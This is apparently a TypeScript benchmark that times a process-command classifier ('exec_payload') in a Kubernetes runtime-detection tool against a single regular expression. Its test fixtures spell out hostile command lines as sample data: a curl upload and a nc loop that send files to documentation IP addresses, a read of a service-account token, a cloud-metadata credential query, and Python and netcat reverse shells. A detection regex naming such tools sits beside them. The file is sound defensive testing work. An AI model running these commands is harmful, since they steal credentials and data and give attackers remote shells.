import type { DetectionContext, Finding, OutflowEvent, ProcessExecEvent } from '@outflow/core';
import { createAnalytic } from '@outflow/detections';
import { createTestContext } from '@outflow/testkit';
import { NEVER, Subject } from 'rxjs';
import type { Figure, Harness, Suite } from '../harness.js';
import { rng } from '../random.js';

/**
 * exec_payload on the hot path: every process start a runtime sensor reports
 * goes through the command-line classifier. Measured per process event,
 * through the analytic (classification, finding construction, keyed state),
 * against the naive alternative measured side by side: join the arguments and
 * test one regular expression of suspicious words.
 */

/** What application containers run all day. */
const ORDINARY: [string, string[]][] = [
  ['/usr/local/bin/app', ['app', '--port', '8080', '--config', '/etc/app/config.yaml']],
  ['/usr/bin/python3', ['python3', '/app/worker.py', '--queue', 'orders']],
  ['/usr/sbin/nginx', ['nginx', '-g', 'daemon off;']],
  ['/opt/java/openjdk/bin/java', ['java', '-Xmx512m', '-jar', '/app/service.jar', '--spring.profiles.active=prod']],
  ['/bin/sh', ['sh', '-c', 'exec /app/start.sh']],
  ['/bin/grpc_health_probe', ['grpc_health_probe', '-addr=:8080']],
  ['/usr/bin/date', ['date', '+%s']],
  ['/bin/ls', ['ls', '/app/data']],
  ['/usr/local/bin/node', ['node', '/app/server.js']],
  ['/usr/bin/pg_isready', ['pg_isready', '-h', 'localhost']],
];

/** What the classifier is for (one in ten events of the realistic mix). */
const SUSPICIOUS: [string, string[]][] = [
  ['/usr/bin/curl', ['curl', '-s', '-T', '/tmp/.cache.tgz', 'https://203.0.113.66/upload']],
  ['/bin/tar', ['tar', 'czf', '/tmp/.cache.tgz', '/app/data', '/var/lib/app']],
  ['/bin/cat', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']],
  ['/bin/sh', ['sh', '-c', 'while', 'true;', 'do', 'tar', 'czf', '-', '/app/data', '|', 'nc', '203.0.113.99', '8080;', 'sleep', '60;', 'done']],
  ['/usr/local/bin/aws', ['aws', 's3', 'sync', '/backup', 's3://acme-prod-backups/postgres/']],
  ['/usr/bin/curl', ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/']],
  ['/usr/bin/python3', ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")']],
  ['/usr/bin/nc', ['nc', '-e', '/bin/sh', '203.0.113.5', '4444']],
];

const NAIVE = /curl|wget|nc |ncat|socat|\/dev\/tcp|secrets|\.aws|shadow|169\.254\.169\.254|tar |s3:\/\/|gs:\/\//;

function events(n: number, suspiciousShare: number, t0: number): ProcessExecEvent[] {
  const r = rng(7);
  const out: ProcessExecEvent[] = [];
  for (let i = 0; i < n; i++) {
    const pick =
      r() % 1000 < suspiciousShare * 1000
        ? (SUSPICIOUS[r() % SUSPICIOUS.length] as [string, string[]])
        : (ORDINARY[r() % ORDINARY.length] as [string, string[]]);
    out.push({
      kind: 'process_exec',
      time: t0 + i * 10,
      observedTime: t0,
      source: 'tetragon',
      sourceId: `p${i}`,
      phase: 'exec',
      process: { pid: 1000 + (i % 30_000), executable: pick[0], args: pick[1], execId: `e${i}` },
      workload: { cluster: 'prod', namespace: `ns-${i % 20}`, pod: `pod-${i % 2_000}`, container: 'app', image: 'registry.example.com/shop/app:1' },
    });
  }
  return out;
}

function detectionContext(): DetectionContext {
  const ctx = createTestContext({ name: 'exec_payload', kind: 'detection' });
  return {
    ...ctx,
    watermark$: NEVER,
    alerts$: NEVER,
    watermark: () => Number.NEGATIVE_INFINITY,
    late: () => {},
    reportError: (err) => {
      throw err;
    },
    registerState: () => {},
    registerCheckpoint: () => {},
  };
}

/** Feed `list` through a freshly connected exec_payload; returns the findings count (kept alive by the caller). */
function analyticBody(list: readonly OutflowEvent[]): () => number {
  return () => {
    const detection = createAnalytic('exec_payload', { analytics: { exec_payload: { params: { bucketOwnerWaitMs: 0 } } } });
    const input = new Subject<OutflowEvent>();
    let findings = 0;
    const sub = detection.connect(input, detectionContext()).subscribe((f: Finding) => {
      findings += f.severity.length > 0 ? 1 : 0;
    });
    for (const e of list) input.next(e);
    input.complete();
    sub.unsubscribe();
    return findings >= 0 ? list.length : 0;
  };
}

export const suite: Suite = {
  name: 'detections-k8s',
  description: 'exec_payload per process event (command-line classifier inside the analytic) against a join + one regex',
  async run(h: Harness): Promise<Figure[]> {
    const n = h.quick ? 20_000 : 100_000;
    const t0 = Date.UTC(2024, 2, 1);
    const figures: Figure[] = [];
    for (const [label, share] of [
      ['realistic mix (10 % suspicious)', 0.1],
      ['suspicious only', 1],
    ] as const) {
      const list = events(n, share, t0);
      let sink = 0;
      const m = await h.compare({
        'join + regex': () => {
          for (const e of list) if (NAIVE.test(e.process.args.join(' '))) sink++;
          return list.length;
        },
        exec_payload: analyticBody(list),
      });
      if (sink === -1) console.log(sink);
      const a = m.exec_payload as { perSecond: number };
      const b = m['join + regex'] as { perSecond: number };
      const id = share === 1 ? 'detections.exec_payload.suspicious' : 'detections.exec_payload.mixed';
      figures.push({
        id,
        title: `exec_payload per process event, ${label}, ${n} events`,
        value: Math.round(a.perSecond),
        unit: 'events/s',
        ratio: { value: a.perSecond / b.perSecond, to: 'joining the arguments and testing one regular expression' },
        target: share === 1 ? '>= 0.01 of join + regex' : '>= 0.1 of join + regex',
        met: a.perSecond / b.perSecond >= (share === 1 ? 0.01 : 0.1),
        notes:
          share === 1 ? 'every event is classified in full and most produce a finding' : 'ordinary programs take the fast path (no parse, shared empty result)',
      });
    }
    return figures;
  },
};
